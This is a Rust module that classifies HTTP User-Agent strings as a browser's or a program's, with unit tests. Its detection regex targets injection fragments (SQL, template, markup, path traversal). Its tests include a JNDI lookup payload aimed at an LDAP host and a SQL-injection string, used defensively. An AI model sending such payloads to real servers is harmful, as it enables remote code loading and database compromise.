//! What the user agent of a browser looks like.
//!
//! Apart from [`super::bots`]: a list of bots never ends, but browsers have all said the same since
//! 2010. `Mozilla/5.0`, the system in brackets, the engine, the browser:
//!
//! ```text
//! Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/156.0.0.0 Safari/537.36
//! ```
//!
//! An agent that breaks a rule below is a program's. The words that browsers use are data,
//! `data/browsers.tsv`: a browser that the rules take for a program is mended there.
//!
//! Text browsers and phones older than Android begin with their own name. On phones and television
//! sets any app may show pages and add its name, so what stands at the end is judged on desktops
//! only.

use aho_corasick::AhoCorasick;
use once_cell::sync::Lazy;
use regex::Regex;
use std::collections::{HashMap, HashSet};

/// The part of an agent that no browser says; empty if something is missing. `None`: the agent is
/// a browser's.
pub fn violation(agent: &str) -> Option<&str> {
    if let Some(found) = CODE.find(agent) {
        return Some(found.as_str());
    }
    // Apple's library for applications; in a browser WebKit speaks for itself.
    if agent.contains("CFNetwork/") {
        return Some(product(agent));
    }
    if WORDS.phone.is_match(agent) {
        return None;
    }
    if !agent.starts_with("Mozilla/") {
        return opening(agent);
    }
    if WORDS.compatible.is_match(agent) {
        return None;
    }
    compatible(agent).or_else(|| remark(agent)).or_else(|| missing(agent)).or_else(|| ending(agent))
}

/// Templates that nobody filled in, markup, paths, queries: what scanners send.
static CODE: Lazy<Regex> = Lazy::new(|| {
    Regex::new(
        r#"(?xi)
          [$%]\{ | \{\{
        | <(?:[!?%] | (?:script|img|iframe|input|video|svg|class)\b)
        | \.\.[/\\]
        | --\s*$ | \bselect\b.*\( | \(select\b
        | ['")`]+\s*(?:or|and|union|where|as|order\s+by|waitfor)\b
        | ;\s*(?:exec|declare|set|sleep)\b
        "#,
    )
    .expect("a constant")
});

/// Without `Mozilla/`, an agent begins with the name of a text browser or a phone, or it is the
/// whole agent of a browser behind the name of a television set's or an app's own.
fn opening(agent: &str) -> Option<&str> {
    static BEHIND_A_NAME: Lazy<Regex> = Lazy::new(|| {
        Regex::new(
            r"^[A-Za-z][^,:|=']*(?:Mozilla/[45]\.0 \((?:Linux|iP|compatible)|\) AppleWebKit)",
        )
        .expect("a constant")
    });
    let begins =
        |word: &&str| agent.get(..word.len()).is_some_and(|begin| begin.eq_ignore_ascii_case(word));
    let known = WORDS.openings.iter().any(begins);
    (!known && !BEHIND_A_NAME.is_match(agent)).then(|| product(agent))
}

/// `compatible` was Internet Explorer's word, and a few others'; crawlers borrowed it.
fn compatible(agent: &str) -> Option<&str> {
    let marked = agent.split_once("compatible;").or_else(|| agent.split_once("(compatible"));
    marked.map(|(_, name)| product(name))
}

/// `(KHTML, like Gecko)` has no room for another word.
fn remark(agent: &str) -> Option<&str> {
    static REMARK: Lazy<Regex> =
        Lazy::new(|| Regex::new(r"(?i)\(KHTML, ?like Gecko[;,] *([^)]*)").expect("a constant"));
    let remark = REMARK.captures(agent)?.get(1)?.as_str();
    // As the first WebKit browsers beside Safari wrote it.
    let innocent = remark.starts_with("Safari") || WORDS.appliances.is_match(agent);
    (!innocent).then(|| product(remark))
}

/// A browser names its system and its engine.
fn missing(agent: &str) -> Option<&str> {
    let whole = WORDS.systems.is_match(agent) && WORDS.engines.is_match(agent);
    if whole {
        return None;
    }
    let (_, products) = agent.split_once(' ').unwrap_or_default();
    Some(outside_brackets(products).find(|word| !is_browser(word)).map_or("", product))
}

/// Behind the engine of a desktop's browser there are only browsers.
fn ending(agent: &str) -> Option<&str> {
    static DESKTOP: Lazy<Regex> = Lazy::new(|| {
        Regex::new(
            r"(?x)^Mozilla/5\.0\ \((?:Windows\ NT|Macintosh|X11|Wayland)[^()]*\)
            \ (?:AppleWebKit/(?:53[4-9]|[6-9]\d\d)[.\d+]*\ \(KHTML,\ like\ Gecko\)|Gecko/20100101)
            (?:\ (.*))?$",
        )
        .expect("a constant")
    });
    let ending = DESKTOP.captures(agent)?.get(1)?.as_str();
    // Television sets call themselves X11 too, and applications made with Electron name themselves.
    if WORDS.appliances.is_match(agent) || ending.contains("Electron/") {
        return None;
    }
    outside_brackets(ending).find(|word| !is_browser(word)).map(product)
}

/// Whether a word at the end of a desktop's agent may be a browser's: it is a known one, says it is
/// a browser, counts its versions in four parts as Chromium does, or is no name at all.
fn is_browser(word: &str) -> bool {
    let (name, version) = word.split_once('/').unwrap_or((word, ""));
    let is_name = name.trim_start_matches('v').starts_with(|c: char| c.is_ascii_alphabetic());
    !is_name
        || WORDS.products.contains(name)
        || name.contains("rowser")
        || version.split('.').filter(|part| part.bytes().all(|b| b.is_ascii_digit())).count() == 4
}

/// The words outside of all brackets.
fn outside_brackets(text: &str) -> impl Iterator<Item = &str> {
    let mut depth = 0_usize;
    let is_edge = move |c: char| {
        match c {
            '(' | '[' => depth += 1,
            ')' | ']' => depth = depth.saturating_sub(1),
            _ => return depth > 0 || c.is_whitespace(),
        }
        true
    };
    text.split(is_edge).filter(|word| !word.is_empty())
}

/// The first product named in a part of an agent.
fn product(part: &str) -> &str {
    let is_edge = |c: char| c.is_whitespace() || "/;,()[]\"'".contains(c);
    part.split(is_edge).find(|word| !word.is_empty()).unwrap_or_default()
}

/// The words of `data/browsers.tsv`, by their rule.
struct Words {
    /// What an agent without `Mozilla/` begins with.
    openings: Vec<&'static str>,
    phone: AhoCorasick,
    compatible: AhoCorasick,
    systems: AhoCorasick,
    engines: AhoCorasick,
    appliances: AhoCorasick,
    products: HashSet<&'static str, foldhash::fast::RandomState>,
}

static WORDS: Lazy<Words> = Lazy::new(|| {
    let mut lists: HashMap<&str, Vec<&'static str>> = HashMap::new();
    for line in include_str!("data/browsers.tsv").lines().filter(|line| !line.starts_with('#')) {
        if let Some((rule, word)) = line.split_once('\t') {
            lists.entry(rule).or_default().push(word);
        }
    }
    let mut take = |rule| lists.remove(rule).unwrap_or_default();
    let any_of = |words: Vec<&str>| {
        let builder = AhoCorasick::builder().ascii_case_insensitive(true).build(words);
        builder.expect("plain words build")
    };
    Words {
        openings: take("opening"),
        phone: any_of(take("phone")),
        compatible: any_of(take("compatible")),
        systems: any_of(take("system")),
        engines: any_of(take("engine")),
        appliances: any_of(take("appliance")),
        products: take("product").into_iter().collect(),
    }
});

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn programs_break_the_grammar() {
        for (agent, part) in [
            ("Mozilla/5.0 (compatible; Dormouse/1.0)", "Dormouse"),
            ("Mozilla/5.0 (compatible)", ""),
            ("Mozilla/5.0", ""),
            ("Mozilla/5.0 Keydrop", "Keydrop"),
            ("Mozilla/5.0 (Mixnode) AppleWebKit/537.36 (KHTML, like Gecko)", ""),
            ("Mozilla/5.0 (Windows NT 10.0; Win64; x64)", ""),
            ("Hello, world", "Hello"),
            ("NameOfAgent", "NameOfAgent"),
            ("Chrome", "Chrome"),
            ("acme/7 CFNetwork/1126 Darwin/19.5.0", "acme"),
            ("Dalvik/2.1.0 (Linux; U; Android 9; X Build/Y)", "Dalvik"),
            ("{{.custom_user_agent}}", "{{"),
            ("Mozilla/5.0 ${jndi:ldap://192.0.2.1/x}", "${"),
            (
                "Mozilla/5.0 (X11; Linux x86_64; rv:36.0) Gecko/20100101 Firefox/36.0' or 1=1--",
                "' or",
            ),
            (
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) \
                 Chrome/140.0.0.0 Safari/537.36 CybaaAgent",
                "CybaaAgent",
            ),
            (
                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/534.34 (KHTML, like Gecko) wkhtmltopdf \
                 Safari/534.34",
                "wkhtmltopdf",
            ),
            (
                "Mozilla/5.0 (X11; Linux x86_64; rv:52.0) Gecko/20100101 Firefox/52.0 \
                 Basjes/1.2.3",
                "Basjes",
            ),
            (
                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko; compatible; \
                 pageburst) Chrome/109.0.5414.101 Safari/537.36",
                "pageburst",
            ),
            (
                "Mozilla/5.0 (Linux; Android 4.2.1; Nexus 5) AppleWebKit/535.19 (KHTML, like Gecko; \
                 googleweblight) Chrome/38.0.1025.166 Mobile Safari/535.19",
                "googleweblight",
            ),
        ] {
            assert_eq!(violation(agent), Some(part), "{agent}");
        }
    }

    #[test]
    fn a_browser_nobody_has_heard_of_is_one() {
        for ending in [
            "Acme/154.0.3485.54",
            "AcmeBrowser/2",
            "(Edition Acme)",
            "[acme/1 on a kiosk]",
            "Chrome/142.0.7444.265 acme/1 Electron/39.8.5",
        ] {
            let agent = format!(
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) \
                 Chrome/156.0.0.0 Safari/537.36 {ending}"
            );
            assert_eq!(violation(&agent), None, "{agent}");
        }
    }

    #[test]
    fn every_line_of_the_words_is_whole() {
        let rules = ["opening", "phone", "system", "engine", "compatible", "appliance", "product"];
        let mut seen = HashSet::new();
        for line in include_str!("data/browsers.tsv").lines().filter(|l| !l.starts_with('#')) {
            let (rule, word) = line.split_once('\t').expect("a rule and a word");
            assert!(rules.contains(&rule) && !word.is_empty(), "{line}");
            assert!(seen.insert(line), "twice: {line}");
        }
    }
}
